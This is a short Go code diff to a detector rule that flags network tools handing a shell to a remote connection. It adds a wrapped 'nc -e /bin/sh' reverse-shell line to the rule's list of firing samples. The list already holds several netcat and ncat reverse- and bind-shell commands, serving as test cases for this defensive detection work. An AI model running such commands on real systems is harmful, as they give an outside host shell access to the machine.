@@ -16,7 +16,7 @@ var shellRelayTool = Detector{
 	Title:  "connection handed to a program",
 	Why:    "a network tool was told to start a program and connect it to the network",
 	Detect: onCommands(relayTool),
-	Fire: append(lines(coi.Critical,
+	Fire: append(lines(coi.Critical, "f(){ \"$@\"; }; f bash -c 'nc -e /bin/sh 203.0.113.9 9'",
 		"nc -l -p 12345 -e /bin/sh",
 		"nc.traditional 198.51.100.7 4242 -e /bin/bash",
 		"ncat --ssl -c bash 198.51.100.7 4242",
